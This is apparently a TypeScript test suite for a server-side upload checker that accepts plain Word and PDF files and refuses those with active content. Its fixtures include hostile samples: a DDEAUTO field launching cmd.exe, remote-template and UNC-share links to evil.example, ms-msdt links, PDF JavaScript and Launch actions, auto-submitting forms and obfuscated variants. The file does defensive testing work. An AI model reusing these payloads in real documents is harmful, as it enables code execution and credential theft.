import { strToU8, zipSync, type Zippable } from 'fflate';
import { PDFDocument, PDFName, PDFString, type PDFDict, type PDFObject } from '@cantoo/pdf-lib';
import { describe, expect, test } from 'vitest';
import type { FileKind } from '#domain/files/file-rules.ts';
import { readConfig, useConfig } from '#server/platform/config.ts';
import { useWarmParser } from '#server/testing/warm-parser/use-warm-parser.ts';
import { readUpload } from './read-file.ts';

useConfig(readConfig({ NODE_ENV: 'test' }));
useWarmParser();

const outcome = async (name: string, bytes: Uint8Array, accepted: FileKind[]) => {
  try {
    return (await readUpload({ name, bytes: Buffer.from(bytes), of: 'test' }, { accepted, picture: 'bounded' })).kind;
  } catch (error) {
    return (error as { code: string }).code;
  }
};

const WORD_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const types = (more = '') =>
  `<Types><Override PartName="/word/document.xml" ContentType="${WORD_TYPE}"/>${more}</Types>`;
function docx(parts: Record<string, string> = {}): Uint8Array {
  const files: Zippable = {};
  for (const [name, text] of Object.entries({
    '[Content_Types].xml': types(),
    'word/document.xml': '<w:document><w:t>ประวัติย่อ, LINK and DDE are words</w:t></w:document>',
    ...parts,
  }))
    files[name] = strToU8(text);
  return zipSync(files);
}
const related = (type: string, target: string, mode = 'External') => ({
  'word/_rels/document.xml.rels': `<Relationships><Relationship Id="r1" Type="${RELATIONSHIPS}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
});
const field = (...runs: string[]) => ({
  'word/document.xml': `<w:document><w:fldChar w:fldCharType="begin"/>${runs.map((run) => `<w:instrText xml:space="preserve">${run}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/></w:document>`,
});

describe('Word', () => {
  const read = (parts: Record<string, string>) => outcome('cv.docx', docx(parts), ['docx']);

  test.each<[string, Record<string, string>]>([
    ['plain', {}],
    ['with links to the web and to mail', related('hyperlink', 'https://example.com/link/dde')],
    ['with a link to mail', related('hyperlink', 'mailto:a@example.com')],
    ['with a picture within', related('image', 'media/image1.png', 'Internal')],
    ['with page numbers', field(' PAGE ')],
    ['with a link by field', field(' HYPERLINK "https://example.com/link dde" ')],
  ])('a document %s is kept', async (_, parts) => {
    expect(await read(parts)).toBe('docx');
  });

  test.each<[string, Record<string, string>]>([
    ['macros', { 'word/vbaProject.bin': 'x' }],
    ['macros under another name', { 'word/a.bin': 'x' }],
    [
      'macros by their type',
      {
        '[Content_Types].xml': types(
          '<Override PartName="/word/a" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
      },
    ],
    ['a control', { 'word/activeX/activeX1.xml': '<x/>' }],
    ['another file', { 'word/embeddings/oleObject1.xml': '<x/>' }],
    ['a template elsewhere', related('attachedTemplate', 'https://evil.example/t.dotm')],
    ['a template elsewhere, written in entities', related('attachedTempl&#97;te', 'https://evil.example/t.dotm')],
    ['a picture elsewhere', related('image', 'https://evil.example/p.png')],
    ['an object elsewhere', related('oleObject', 'https://evil.example/o')],
    ['a frame elsewhere', related('frame', 'https://evil.example/f')],
    ['a link to a share', related('hyperlink', '\\\\evil.example\\share')],
    ['a link to a file', related('hyperlink', 'file:///c:/windows')],
    ['a link that starts a program', related('hyperlink', 'ms-msdt:/id')],
    [
      'a link in other letters',
      {
        'word/_rels/document.xml.rels': `<Relationships><a:Relationship Target='file:///x' Type='x/hyperlink' TargetMode='&#69;xternal'/></Relationships>`,
      },
    ],
    ['another text', { '[Content_Types].xml': types('<Override PartName="/word/a" ContentType="aFChunk"/>') }],
    ['a field that starts a program', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
    ['the same in pieces', field('DD', 'E', 'AUTO x')],
    ['the same in entities', field('&#68;DE x')],
    ['the same in short', { 'word/footer1.xml': `<w:ftr><w:fldSimple w:instr=" DDE x "/></w:ftr>` }],
    [
      'a field whose name is made by another',
      {
        'word/document.xml': `<w:document><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText></w:document>`,
      },
    ],
    ['a field that fetches', field(' INCLUDEPICTURE "https://evil.example/p" ')],
  ])('one with %s is refused', async (_, parts) => {
    expect(await read(parts)).toBe('file_active');
  });

  test('one that cannot be looked into is refused', async () => {
    expect(await read({ 'word/document.xml': '<!DOCTYPE w [<!ENTITY a "DDE">]><w:document/>' })).toBe(
      'file_unreadable',
    );
    expect(await read({ 'word/document.xml': Buffer.from('\ufeff<w:document/>', 'utf16le').toString('latin1') })).toBe(
      'file_unreadable',
    );
    expect(await outcome('cv.docx', docx().subarray(0, -30), ['docx'])).not.toBe('docx');
  });

  test('the binary form of 1997 is refused: nobody can look into it', async () => {
    const doc = Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(600),
      Buffer.from('WordDocument', 'utf16le'),
      Buffer.alloc(600),
    ]);
    expect(await outcome('cv.doc', doc, ['pdf', 'docx'])).toBe('file_type_not_accepted');
  });
});

async function pdf(change: (document: PDFDocument, root: PDFDict) => void | Promise<void>, useObjectStreams = true) {
  const document = await PDFDocument.create();
  document.addPage([100, 100]).drawText('slip');
  await change(document, document.catalog);
  return document.save({ useObjectStreams });
}
const action = (document: PDFDocument, entries: Record<string, string>): PDFObject =>
  document.context.obj(
    Object.fromEntries(
      Object.entries(entries).map(([key, value]) => [key, key === 'S' ? PDFName.of(value) : PDFString.of(value)]),
    ),
  );

describe('PDF', () => {
  const read = (bytes: Uint8Array) => outcome('slip.pdf', bytes, ['pdf']);

  test.each<[string, (document: PDFDocument, root: PDFDict) => void | Promise<void>]>([
    ['plain', () => {}],
    ['that opens at a page', (document, root) => root.set(PDFName.of('OpenAction'), document.context.obj([0, 'Fit']))],
    [
      'with a link to the web',
      (document, root) => root.set(PDFName.of('X'), action(document, { S: 'URI', URI: 'https://example.com/' })),
    ],
    [
      'of a tax invoice, with its XML',
      (document) => document.attach(Buffer.from('<a/>'), 'etax.xml', { mimeType: 'text/xml' }),
    ],
  ])('a document %s is kept', async (_, change) => {
    for (const compressed of [true, false]) expect(await read(await pdf(change, compressed))).toBe('pdf');
  });

  test.each<[string, (document: PDFDocument, root: PDFDict) => void | Promise<void>]>([
    [
      'a script',
      (document, root) => root.set(PDFName.of('OpenAction'), action(document, { S: 'JavaScript', JS: 'app.alert(1)' })),
    ],
    [
      'a script without a name',
      (document, root) => root.set(PDFName.of('X'), action(document, { JS: 'app.alert(1)' })),
    ],
    [
      'a start of a program',
      (document, root) => root.set(PDFName.of('OpenAction'), action(document, { S: 'Launch', F: 'cmd.exe' })),
    ],
    [
      'a form that is sent by itself',
      (document, root) => root.set(PDFName.of('AA'), action(document, { S: 'SubmitForm', F: 'https://evil.example' })),
    ],
    [
      'a document elsewhere',
      (document, root) =>
        root.set(PDFName.of('OpenAction'), action(document, { S: 'GoToR', F: '\\\\evil.example\\s' })),
    ],
    [
      'an address that opens with it',
      (document, root) =>
        root.set(PDFName.of('OpenAction'), action(document, { S: 'URI', URI: 'https://evil.example' })),
    ],
    [
      'an address that opens after a page is shown',
      (document, root) => {
        const opens = document.context.register(action(document, { S: 'URI', URI: 'https://evil.example' }));
        const turns = document.context.obj({ S: PDFName.of('Named'), N: PDFName.of('NextPage'), Next: [opens] });
        root.set(PDFName.of('AA'), document.context.obj({ O: document.context.register(turns) }));
      },
    ],
    [
      'a link that is a script',
      (document, root) => root.set(PDFName.of('X'), action(document, { S: 'URI', URI: ' java\nscript:alert(1)' })),
    ],
    [
      'a link to a file',
      (document, root) => root.set(PDFName.of('X'), action(document, { S: 'URI', URI: 'file://evil.example/x' })),
    ],
    [
      'a link to a share',
      (document, root) => root.set(PDFName.of('X'), action(document, { S: 'URI', URI: '\\\\evil.example\\x' })),
    ],
    [
      'a picture that lies elsewhere',
      (document, root) => {
        const stream = document.context.stream('x', { F: PDFString.of('\\\\evil.example\\x') });
        root.set(PDFName.of('X'), document.context.register(stream));
      },
    ],
    [
      'a file by its address',
      (document, root) =>
        root.set(PDFName.of('X'), document.context.obj({ FS: PDFName.of('URL'), F: PDFString.of('http://x') })),
    ],
    ['a form of scripts', (document, root) => root.set(PDFName.of('AcroForm'), document.context.obj({ XFA: [] }))],
    [
      'a film',
      (document, root) => root.set(PDFName.of('X'), document.context.obj({ Subtype: PDFName.of('RichMedia') })),
    ],
    [
      'a program within',
      (document) => document.attach(Buffer.from('MZ'), 'a.exe', { mimeType: 'application/octet-stream' }),
    ],
    ['a file within that says no kind', (document) => document.attach(Buffer.from('MZ'), 'a.exe', {})],
  ])('one with %s is refused, compressed or not', async (_, change) => {
    for (const compressed of [true, false]) expect(await read(await pdf(change, compressed))).toBe('file_active');
  });

  test.each(['https://example.com/a?b=1', 'HTTP://example.com', 'mailto:a@example.com', 'tel:+6621234567', 'terms#3'])(
    'a link to %s is clicked, and stays',
    async (address) => {
      const bytes = await pdf((document, root) =>
        root.set(PDFName.of('X'), action(document, { S: 'URI', URI: address })),
      );
      expect(await read(bytes)).toBe('pdf');
    },
  );

  test.each([undefined, 'owner'])('one that wants a password says so, with an owner’s password %s', async (owner) => {
    const locked = (options: { userPassword?: string; ownerPassword?: string }) =>
      pdf((document) => document.encrypt(options), false);
    expect(await read(await locked({ userPassword: 'open', ...(owner && { ownerPassword: owner }) }))).toBe(
      'file_locked',
    );
    expect(await read(await locked({ ownerPassword: 'owner' }))).toBe('pdf');
  });

  test('a name written in numbers is the same name', async () => {
    const plain = Buffer.from(
      await pdf((document, root) => root.set(PDFName.of('X'), action(document, { S: 'Named', N: 'x' })), false),
    ).toString('latin1');
    expect(await read(Buffer.from(plain.replace('/S /Named', '/S /L#61unch'), 'latin1'))).toBe('file_active');
    expect(await read(Buffer.from(plain.replace('/S /Named', '/S /#4daunch'), 'latin1'))).toBe('pdf');
  });

  test('an object that a later one replaces is looked at, too', async () => {
    const plain = Buffer.from(await pdf(() => {}, false)).toString('latin1');
    const hidden = plain.replace(
      '%%EOF',
      '1 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n1 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n%%EOF',
    );
    expect(await read(Buffer.from(hidden, 'latin1'))).toBe('file_active');
  });

  test('one nested without end is refused in time', async () => {
    const plain = Buffer.from(await pdf(() => {}, false)).toString('latin1');
    const deep = `9 0 obj\n${'['.repeat(200_000)}${']'.repeat(200_000)}\nendobj\n`;
    expect(await read(Buffer.from(plain.replace('xref', `${deep}xref`), 'latin1'))).toBe('file_unreadable');
  });
});

test('a name that says something else than the content is refused', async () => {
  const bytes = await pdf(() => {});
  expect(await outcome('slip.exe', bytes, ['pdf'])).toBe('file_ending_wrong');
  expect(await outcome('slip.html', bytes, ['pdf'])).toBe('file_ending_wrong');
  expect(await outcome('slip', bytes, ['pdf'])).toBe('pdf');
});
